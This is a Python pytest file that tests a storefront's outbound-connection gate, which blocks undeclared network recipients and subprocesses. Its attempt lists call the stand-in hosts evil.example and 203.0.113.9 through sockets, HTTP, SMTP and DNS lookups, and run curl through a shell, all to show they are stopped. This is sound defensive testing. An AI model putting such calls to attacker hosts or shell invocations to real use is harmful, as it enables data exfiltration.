"""The gate as the shop closes it: tried in a process of its own, because it cannot be unhooked."""

import json
import os
import socket
import subprocess
import sys
import threading
from contextlib import suppress
from dataclasses import replace
from pathlib import Path

import pytest

from storefront import gate
from storefront.models import ConnectionCount

ROOT = Path(__file__).resolve().parent.parent

# Imports the shop as a server does, then runs what stands in {attempts}: a list of expressions.
SCRIPT = """
import asyncio, http.client, json, multiprocessing, os, pty, smtplib, socket, ssl, subprocess, sys
import urllib.request
from concurrent.futures import ThreadPoolExecutor
import requests, urllib3
import wsgi
from storefront import darkroom, tally

def outcome(expression):
    try:
        eval(expression)
    except BaseException as trouble:
        return type(trouble).__name__
    return "passed"

def in_thread(*call):
    with ThreadPoolExecutor(1) as thread:
        return thread.submit(*call).result()

def through_asyncio(host, port):
    async def open_and_close():
        _, writer = await asyncio.open_connection(host, port)
        writer.close()
    asyncio.run(open_and_close())

def in_child(expression):
    # What became of it in a child that multiprocessing forks.
    ours, theirs = multiprocessing.Pipe()
    told = lambda: theirs.send(outcome(expression))
    child = multiprocessing.get_context("fork").Process(target=told)
    child.start()
    child.join()
    if (said := ours.recv()) != "passed":
        raise type(said, (Exception,), {})

print(json.dumps([outcome(expression) for expression in json.loads(sys.argv[1])]))
"""
UDP = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
UNDECLARED = [
    "socket.create_connection(('evil.example', 80))",
    "socket.create_connection(('203.0.113.9', 80))",
    "socket.create_connection(('127.0.0.1', {other}))",
    "socket.create_connection(('localhost', {other}))",
    "socket.create_connection(('127.0.0.1', {vault} + 1))",
    "socket.create_connection(('0.0.0.0', {other}))",
    "socket.create_connection(('::1', {other}))",
    "socket.create_connection(('2130706433', {other}))",
    "socket.socket().connect(('', {other}))",
    "socket.socket().connect_ex(('127.0.0.1', {other}))",
    "http.client.HTTPConnection('evil.example').request('GET', '/')",
    "http.client.HTTPConnection('127.0.0.1', {other}).request('GET', '/')",
    "http.client.HTTPSConnection('evil.example').request('GET', '/')",
    "urllib.request.urlopen('http://evil.example/')",
    "urllib.request.urlopen('http://127.0.0.1:{other}/')",
    "smtplib.SMTP('evil.example')",
    "smtplib.SMTP('127.0.0.1', {other})",
    "smtplib.SMTP_SSL('127.0.0.1', {other})",
    f"{UDP}.sendto(b'a name', ('203.0.113.9', 53))",
    f"{UDP}.sendmsg([b'a name'], [], 0, ('203.0.113.9', 53))",
    f"{UDP}.connect(('203.0.113.9', 53))",
    "socket.getaddrinfo('what-somebody-typed.evil.example', 80)",
    "socket.getaddrinfo(b'what-somebody-typed.evil.example', 80)",
    "socket.gethostbyname('what-somebody-typed.evil.example')",
    "socket.gethostbyname_ex('what-somebody-typed.evil.example')",
    "socket.gethostbyaddr('203.0.113.9')",
    "socket.getnameinfo(('203.0.113.9', 80), 0)",
    # Libraries, of which none knows of the gate.
    "requests.get('http://evil.example/')",
    "requests.get('http://127.0.0.1:{other}/')",
    "requests.post('https://203.0.113.9/', data='x', timeout=1)",
    "urllib3.PoolManager(retries=False).request('GET', 'http://evil.example/')",
    "urllib3.PoolManager(retries=False).request('GET', 'http://127.0.0.1:{other}/')",
    "through_asyncio('evil.example', 80)",
    "through_asyncio('127.0.0.1', {other})",
    "in_thread(socket.create_connection, ('127.0.0.1', {other}))",
    "in_thread(requests.get, 'http://127.0.0.1:{other}/')",
    "in_child(\"socket.create_connection(('127.0.0.1', {other}))\")",
    "socket.socket(socket.AF_UNIX).connect('/run/something')",
]
PROGRAMS = [
    "subprocess.run(['curl', 'http://127.0.0.1:{other}/'])",
    "subprocess.run('curl http://127.0.0.1:{other}/', shell=True)",
    "subprocess.run([sys.executable, '-c', 'print(1)'])",
    "subprocess.run(['pg_dump'], executable='/bin/sh')",
    "subprocess.run([sys.executable, '-I', darkroom.__file__, 'more'])",
    "in_thread(subprocess.run, ['curl'])",
    "os.system('curl http://127.0.0.1:{other}/')",
    "os.popen('curl http://127.0.0.1:{other}/')",
    "os.posix_spawn('/bin/true', ['true'], dict())",
    "os.execv('/bin/true', ['true'])",
    "pty.spawn(['true'])",
]
DECLARED = [
    "socket.create_connection(('127.0.0.1', {vault}))",
    "http.client.HTTPConnection('127.0.0.1', {vault}).connect()",
    "smtplib.SMTP('localhost', {mail}).quit()",
    "smtplib.SMTP('127.0.0.1', {mail}).quit()",
    "socket.socketpair()",
    "through_asyncio('127.0.0.1', {vault})",
    "in_thread(socket.create_connection, ('127.0.0.1', {vault}))",
    "in_child(\"socket.create_connection(('127.0.0.1', {vault}))\")",
    "subprocess.run([sys.executable, '-I', darkroom.__file__], input=b'', check=True)",
    "socket.gethostbyaddr('127.0.0.1')",
]


@pytest.fixture
def listening():
    """Give a port on which a server says hello, as a mail server would, and goodbye."""
    servers = []

    def serve(server: socket.socket) -> None:
        with suppress(OSError):  # when it is closed
            while True:
                answer(server.accept()[0])

    def answer(there: socket.socket) -> None:
        with there, suppress(OSError):  # who only knocks may be gone by now
            there.sendall(b"220 here\r\n")
            for line in there.makefile("rb"):
                there.sendall(b"221 bye\r\n" if line.lower().startswith(b"quit") else b"250 \r\n")

    def start() -> int:
        server = socket.create_server(("127.0.0.1", 0))
        thread = threading.Thread(target=serve, args=(server,))
        thread.start()
        servers.append((server, thread))
        return server.getsockname()[1]

    yield start
    for server, thread in servers:
        server.shutdown(socket.SHUT_RDWR)
        server.close()
        thread.join()


@pytest.fixture
def tried(settings, listening):
    """What became of each attempt in a process that has imported `wsgi`."""
    mail, other = listening(), listening()
    ports = {"vault": int(settings.vault_address.rpartition(":")[2]), "mail": mail, "other": other}
    environ = {
        **{
            name: value for name, value in os.environ.items() if not name.lower().endswith("_proxy")
        },
        "STOREFRONT_INSTANCE": str(settings.instance),
        "DATABASE_URL": settings.database_url,
        "STOREFRONT_VAULT": settings.vault_address,
        "MAIL_URL": f"smtp://localhost:{mail}",
    }

    def run(attempts: list[str]) -> dict[str, str]:
        filled = [attempt.format(**ports) for attempt in attempts]
        done = subprocess.run(
            [sys.executable, "-c", SCRIPT, json.dumps(filled)],
            **{"cwd": ROOT, "env": environ, "capture_output": True, "text": True, "timeout": 60},
        )
        assert done.returncode == 0, done.stderr
        return dict(zip(attempts, json.loads(done.stdout.splitlines()[-1]), strict=True))

    return run


def test_the_shop_reaches_whom_it_declared_and_nobody_else(tried):
    outcomes = tried(UNDECLARED + PROGRAMS + DECLARED)
    wanted = dict.fromkeys(UNDECLARED, "UndeclaredRecipient") | dict.fromkeys(DECLARED, "passed")
    assert outcomes == wanted | dict.fromkeys(PROGRAMS, "UndeclaredProgram")


def test_what_passes_is_noted_for_its_recipient_and_what_is_stopped_is_not(tried):
    outcomes = tried(
        [
            "socket.create_connection(('127.0.0.1', {vault}))",
            "smtplib.SMTP('127.0.0.1', {mail})",
            "socket.create_connection(('127.0.0.1', {other}))",
            "1 / ([*tally._notes] == ['vault', 'mail server'])",
        ]
    )
    assert list(outcomes.values()) == ["passed", "passed", "UndeclaredRecipient", "passed"]


def test_what_is_left_is_written_down_when_the_program_ends(tried):
    tried(["socket.create_connection(('127.0.0.1', {vault}))"] * 2)
    (row,) = ConnectionCount.select()
    assert (row.recipient, row.connections) == ("vault", 2)


def test_the_shop_answers_behind_the_closed_gate(tried):
    looks = "1 / (wsgi.app.test_client().get('/products').status_code == 200)"
    assert tried([looks]) == {looks: "passed"}


def test_an_open_gate_lets_everything_pass(listening):
    gate.open_again()
    socket.create_connection(("127.0.0.1", listening())).close()


def test_a_vault_that_is_named_by_its_address_in_ipv6_is_admitted(settings, monkeypatch):
    monkeypatch.setattr(gate, "_recipients", {})
    gate.admit_from(replace(settings, vault_address="[::1]:8002", mail_url="maildir:///mail"))
    vault = gate.recipients()[0]
    assert (vault.name, vault.host, vault.port) == ("vault", "::1", 8002)
